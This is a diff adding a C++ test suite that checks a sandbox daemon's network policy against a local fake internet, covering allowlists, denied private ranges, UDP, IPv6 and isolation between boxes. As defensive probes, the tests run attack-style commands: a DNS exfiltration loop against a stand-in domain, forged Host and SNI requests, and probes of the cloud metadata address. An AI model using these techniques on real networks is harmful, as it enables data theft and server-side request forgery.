@@ -1,0 +1,284 @@
+// The network of issue 12 end to end: a real `sbx serve` in the daemon namespace of a fake
+// internet (fakenet.sh: nothing can leave the machine), sandboxes with policies, and what their
+// commands reach, checked inside (the command's outcome) and outside (what the fake internet's
+// servers logged, the audit trail, what is left on the host). Threat rows 32-37 and 39.
+#include <gtest/gtest.h>
+#include <openssl/evp.h>
+#include <unistd.h>
+
+#include <nlohmann/json.hpp>
+#include <sstream>
+#include <string>
+#include <vector>
+
+#include "api/http/client.h"
+#include "common/fd.h"
+#include "common/fs.h"
+#include "daemon_process.h"
+#include "sbx_process.h"
+
+namespace sbx::test {
+namespace {
+
+using nlohmann::json;
+
+std::string Unbase64(const std::string& in) {
+  std::string out(in.size(), '\0');
+  int n = EVP_DecodeBlock(reinterpret_cast<unsigned char*>(out.data()),
+                          reinterpret_cast<const unsigned char*>(in.data()),
+                          static_cast<int>(in.size()));
+  if (n < 0) return "";
+  size_t pad = 0;
+  if (!in.empty() && in.back() == '=') ++pad;
+  if (in.size() > 1 && in[in.size() - 2] == '=') ++pad;
+  out.resize(static_cast<size_t>(n) - pad);
+  return out;
+}
+
+struct Run {
+  std::string out, err;
+  int64_t exit_code = -999;
+};
+
+class NetworkTest : public ::testing::Test {
+ protected:
+  void SetUp() override {
+    ASSERT_EQ(::geteuid(), 0u) << "network namespaces need root";
+    char tmpl[] = "/tmp/sbx-net-test-XXXXXX";
+    ASSERT_NE(::mkdtemp(tmpl), nullptr);
+    ASSERT_EQ(::chmod(tmpl, 0711), 0);
+    dir_ = tmpl;
+    tag_ = "n" + std::to_string(::getpid());
+    ASSERT_EQ(Sh(Fakenet() + " up " + tag_ + " " + dir_ + "/net"), 0) << "fakenet up";
+    ::setenv("SBX_CGROUP_PARENT", ("sbx-net-test-" + std::to_string(::getpid())).c_str(), 1);
+    d_ = std::make_unique<DaemonProcess>(dir_ + "/data");
+    ASSERT_EQ(::mkdir((dir_ + "/data").c_str(), 0711), 0);
+    d_->set_prefix({"ip", "netns", "exec", DaemonNs()});
+    d_->set_serve_flags({"--upstream-dns", "198.18.0.53:53", "--upstream-ca", Ca()});
+    d_->Start();
+  }
+  void TearDown() override {
+    if (d_ && d_->Alive()) {
+      json list = Json("GET", "/v1/sandboxes?state=running&state=paused");
+      for (const auto& s : list["sandboxes"]) Call("DELETE", "/v1/sandboxes/" + s["id"].get<std::string>());
+      // Nothing of a box's network is left in the daemon's namespace once it is killed.
+      EXPECT_EQ(HostLinks(), "") << "box links left";
+      EXPECT_EQ(BoxChains(), "") << "box chains left";
+      d_->Stop();
+    }
+    d_.reset();
+    Sh(Fakenet() + " down " + tag_ + " " + dir_ + "/net");
+    (void)RemoveTree(dir_);
+  }
+
+  static int Sh(const std::string& cmd) { return ::system(cmd.c_str()); }
+  static std::string Fakenet() { return std::string(SBX_SOURCE_DIR) + "/tests/network/fakenet.sh"; }
+  std::string DaemonNs() const { return "sbxt-" + tag_ + "-d"; }
+  std::string Ca() const { return dir_ + "/net/ca.pem"; }
+  std::string InNs(const std::string& cmd) const {
+    auto r = RunProcess({"ip", "netns", "exec", DaemonNs(), "sh", "-c", cmd});
+    return r.out;
+  }
+  std::string HostLinks() const { return InNs("ip -o link | grep -o ' sbx[0-9]*' || true"); }
+  std::string BoxChains() const {
+    return InNs("nft list table inet sbx 2>/dev/null | grep -o 'chain box-[a-z0-9-]*' || true");
+  }
+
+  http::Response Call(const std::string& method, const std::string& target,
+                      const std::string& body = "") {
+    http::ClientHeaders h = {{"Authorization", "Bearer " + d_->key()}};
+    if (!body.empty()) h.push_back({"Content-Type", "application/json"});
+    auto r = http::Request(http::Endpoint{"", 0, d_->unix_socket()}, method, target, h, body,
+                           std::chrono::seconds(120));
+    EXPECT_TRUE(r.ok()) << method << " " << target << ": " << r.status().message();
+    return r.ok() ? *r : http::Response{};
+  }
+  json Json(const std::string& method, const std::string& target, const json& body = nullptr,
+            int want = 200) {
+    auto r = Call(method, target, body.is_null() ? "" : body.dump());
+    EXPECT_EQ(r.status, want) << method << " " << target << ": " << r.body;
+    return json::parse(r.body.empty() ? "null" : r.body, nullptr, false);
+  }
+  // A sandbox with `network` (the native create field) that trusts the fake internet's CA.
+  std::string Create(const json& network) {
+    json body = {{"network", network}};
+    json s = Json("POST", "/v1/sandboxes", body, 201);
+    std::string id = s.value("id", "");
+    EXPECT_FALSE(id.empty()) << s.dump();
+    auto ca = ReadFile(Ca());
+    EXPECT_TRUE(ca.ok());
+    EXPECT_EQ(Call("PUT", "/v1/sandboxes/" + id + "/files?path=/tmp/ca.pem", *ca).status, 200);
+    return id;
+  }
+  Run Exec(const std::string& id, const std::string& command) {
+    Run run;
+    auto r = Call("POST", "/v1/sandboxes/" + id + "/commands",
+                  json{{"command", command}, {"timeout", 60}}.dump());
+    EXPECT_EQ(r.status, 200) << r.body;
+    std::istringstream lines(r.body);
+    std::string line;
+    while (std::getline(lines, line)) {
+      json e = json::parse(line, nullptr, false);
+      if (e.is_discarded()) continue;
+      std::string t = e.value("type", "");
+      if (t == "stdout") run.out += Unbase64(e["data"]);
+      if (t == "stderr") run.err += Unbase64(e["data"]);
+      if (t == "exit") run.exit_code = e.value("exit_code", -1);
+    }
+    return run;
+  }
+  // What the fake internet saw: its DNS queries and HTTP requests, one JSON object a line.
+  std::vector<json> Log(const std::string& which) const {
+    std::vector<json> out;
+    auto text = ReadFile(dir_ + "/net/" + which + ".jsonl", 64 << 20);
+    if (!text.ok()) return out;
+    std::istringstream lines(*text);
+    std::string line;
+    while (std::getline(lines, line)) {
+      json j = json::parse(line, nullptr, false);
+      if (!j.is_discarded()) out.push_back(j);
+    }
+    return out;
+  }
+  int DnsQueriesFor(const std::string& suffix) const {
+    int n = 0;
+    for (const auto& q : Log("dns")) {
+      std::string name = q.value("name", "");
+      if (name.size() >= suffix.size() &&
+          name.compare(name.size() - suffix.size(), suffix.size(), suffix) == 0)
+        ++n;
+    }
+    return n;
+  }
+  std::vector<json> Audit(const std::string& type, const std::string& id) {
+    json j = Json("GET", "/v1/audit?type=" + type + "&sandbox=" + id + "&limit=1000");
+    std::vector<json> out;
+    if (j.is_object() && j["events"].is_array())
+      for (const auto& e : j["events"]) out.push_back(e);
+    return out;
+  }
+
+  std::string dir_, tag_;
+  std::unique_ptr<DaemonProcess> d_;
+};
+
+constexpr char kCurl[] = "curl -sS --max-time 20 --cacert /tmp/ca.pem ";
+
+// Rows 32 and 33: an allowlist reaches what it names and nothing else; DNS for anything else is
+// answered inside sbx, so random subdomains never reach the internet.
+TEST_F(NetworkTest, AnAllowlistReachesWhatItNamesAndNothingElse) {
+  std::string id = Create({{"mode", "allowlist"}, {"allow", {"allowed.test", "*.pypi.test", "pypi.test"}}});
+  auto ok = Exec(id, std::string(kCurl) + "https://allowed.test/headers");
+  EXPECT_EQ(ok.exit_code, 0) << ok.err;
+  EXPECT_NE(ok.out.find("\"host\":\"allowed.test\""), std::string::npos) << ok.out;
+
+  // A name not allowed: NXDOMAIN from sbx, and the fake DNS never hears of it.
+  auto denied = Exec(id, std::string(kCurl) + "http://denied.test/");
+  EXPECT_EQ(denied.exit_code, 6) << denied.err;  // curl: could not resolve host
+  EXPECT_EQ(DnsQueriesFor("denied.test"), 0);
+
+  // DNS exfiltration: 100 random subdomains (A and AAAA through getent), none reaches upstream.
+  auto exfil = Exec(id, "for i in $(seq 100); do getent ahosts \"$i-$(head -c6 /dev/urandom | od -An -tx1 | tr -d ' \\n').exfil.test\" >/dev/null; done; echo done");
+  EXPECT_EQ(exfil.out, "done\n") << exfil.err;
+  EXPECT_EQ(DnsQueriesFor("exfil.test"), 0);
+
+  // A raw address the policy does not name, even with an allowed name forged as SNI or Host:
+  // the proxy goes to the allowed name's real address, never to the one the box chose.
+  auto raw = Exec(id, std::string(kCurl) + "http://198.18.2.10/");
+  EXPECT_NE(raw.exit_code, 0) << raw.out;
+  auto forged_host = Exec(id, std::string(kCurl) + "-H 'Host: allowed.test' http://198.18.2.10/headers");
+  auto forged_sni = Exec(id, std::string(kCurl) + "--resolve allowed.test:443:198.18.2.10 https://allowed.test/headers");
+  EXPECT_EQ(forged_sni.exit_code, 0) << forged_sni.err;
+  for (const auto& r : Log("http"))
+    EXPECT_NE(r.value("local", ""), "198.18.2.10") << "a request reached the box's chosen address: " << r.dump();
+  (void)forged_host;
+  EXPECT_FALSE(Audit("net.connect_denied", id).empty());
+
+  // pip through the allowlist (the index and its file host are allowed).
+  auto pip = Exec(id, "cd /tmp && REQUESTS_CA_BUNDLE=/tmp/ca.pem python3 -m pip download -q --no-deps "
+                      "--index-url https://pypi.test/simple/ -d /tmp/dl sbxdemo && ls /tmp/dl");
+  EXPECT_EQ(pip.exit_code, 0) << pip.err;
+  EXPECT_NE(pip.out.find("sbxdemo-1.0-py3-none-any.whl"), std::string::npos) << pip.out;
+  // npm from an index the policy does not name fails.
+  auto npm = Exec(id, "cd /tmp && npm install --registry https://registry.test/ --cafile /tmp/ca.pem "
+                      "--no-audit --no-fund --fetch-retries=0 sbxdemo");
+  EXPECT_NE(npm.exit_code, 0) << npm.out;
+  EXPECT_EQ(DnsQueriesFor("registry.test"), 0);
+}
+
+// Row 34: whatever the policy says, the host, private ranges and metadata are refused.
+TEST_F(NetworkTest, AlwaysDeniedRangesAreRefusedEvenInOpenMode) {
+  std::string id = Create({{"mode", "open"}});
+  EXPECT_EQ(Exec(id, std::string(kCurl) + "https://allowed.test/headers").exit_code, 0);
+  for (const std::string& url : {"http://private.test/", "http://loopback.test/", "http://metadata.test/",
+                                 "http://169.254.169.254/", "http://10.1.2.3/", "http://198.19.255.2/",
+                                 "http://198.19.255.1/"}) {
+    auto r = Exec(id, std::string(kCurl) + url);
+    EXPECT_NE(r.exit_code, 0) << url << ": " << r.out;
+  }
+  // The gateway (the host's end of the box's link) on any port but DNS, the daemon's included.
+  auto gw = Exec(id, "ip route | awk '/default/ {print $3}'");
+  std::string host = gw.out.substr(0, gw.out.find('\n'));
+  EXPECT_FALSE(host.empty());
+  EXPECT_NE(Exec(id, std::string(kCurl) + "http://" + host + ":7777/").exit_code, 0);
+  EXPECT_GE(Audit("net.connect_denied", id).size(), 5u);
+}
+
+// Row 35: IPv6 and UDP do not get around the policy; UDP goes out only by an explicit rule.
+TEST_F(NetworkTest, UdpOnlyByRuleAndNoIpv6) {
+  std::string id = Create({{"mode", "open"}});
+  std::string udp = "python3 -c \"import socket; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); "
+                    "s.settimeout(2); s.sendto(b'ping', ('198.18.3.1', 5000)); print(s.recv(9))\"";
+  EXPECT_NE(Exec(id, udp).exit_code, 0) << "UDP went out without a rule";
+  EXPECT_NE(Exec(id, "curl -sS --max-time 5 -6 'http://[2001:db8::1]/'").exit_code, 0);
+  Json("PUT", "/v1/sandboxes/" + id + "/network",
+       {{"mode", "open"}, {"allow", {"198.18.3.1/32:5000/udp"}}}, 200);
+  auto r = Exec(id, udp);
+  EXPECT_EQ(r.exit_code, 0) << r.err;
+  EXPECT_NE(r.out.find("ping"), std::string::npos);
+}
+
+// Row 37: one box cannot reach another's address.
+TEST_F(NetworkTest, ABoxCannotReachAnotherBox) {
+  std::string a = Create({{"mode", "open"}}), b = Create({{"mode", "open"}});
+  auto addr = Exec(b, "ip -4 -o addr show eth0 | awk '{print $4}' | cut -d/ -f1");
+  std::string ip = addr.out.substr(0, addr.out.find('\n'));
+  ASSERT_FALSE(ip.empty());
+  Exec(b, "nohup python3 -m http.server 8000 >/dev/null 2>&1 &");
+  EXPECT_NE(Exec(a, "curl -sS --max-time 5 http://" + ip + ":8000/").exit_code, 0);
+}
+
+// Row 39, and item 5: a policy replaced while the box runs applies to the next connection, and
+// stays through pause/resume and a daemon restart.
+TEST_F(NetworkTest, APolicyIsLiveAndSurvivesPauseAndRestart) {
+  std::string id = Create({{"mode", "allowlist"}, {"allow", {"allowed.test"}}});
+  std::string pypi = std::string(kCurl) + "https://pypi.test/simple/sbxdemo/";
+  EXPECT_NE(Exec(id, pypi).exit_code, 0);
+  Json("PUT", "/v1/sandboxes/" + id + "/network", {{"mode", "allowlist"}, {"allow", {"pypi.test"}}}, 200);
+  EXPECT_EQ(Exec(id, pypi).exit_code, 0);
+  EXPECT_NE(Exec(id, std::string(kCurl) + "https://allowed.test/headers").exit_code, 0);
+  Json("POST", "/v1/sandboxes/" + id + "/pause", json::object(), 204);
+  Json("POST", "/v1/sandboxes/" + id + "/resume", json::object(), 204);
+  EXPECT_EQ(Exec(id, pypi).exit_code, 0);
+  EXPECT_NE(Exec(id, std::string(kCurl) + "https://allowed.test/headers").exit_code, 0);
+  d_->Stop();
+  d_->Start();
+  EXPECT_EQ(Exec(id, pypi).exit_code, 0);
+  EXPECT_NE(Exec(id, std::string(kCurl) + "https://allowed.test/headers").exit_code, 0);
+  json net = Json("GET", "/v1/sandboxes/" + id + "/network");
+  EXPECT_EQ(net.value("mode", ""), "allowlist") << net.dump();
+}
+
+// Mode none (the default): no link, and resolv.conf says why there is no network.
+TEST_F(NetworkTest, WithoutAPolicyThereIsNoNetworkAndTheBoxSaysSo) {
+  json s = Json("POST", "/v1/sandboxes", json::object(), 201);
+  std::string id = s.value("id", "");
+  auto conf = Exec(id, "cat /etc/resolv.conf; ls /sys/class/net");
+  EXPECT_NE(conf.out.find("no network"), std::string::npos) << conf.out;
+  EXPECT_EQ(conf.out.find("eth0"), std::string::npos) << conf.out;
+  EXPECT_NE(Exec(id, std::string(kCurl) + "https://allowed.test/").exit_code, 0);
+  EXPECT_EQ(DnsQueriesFor("allowed.test"), 0);
+}
+
+}  // namespace
+}  // namespace sbx::test
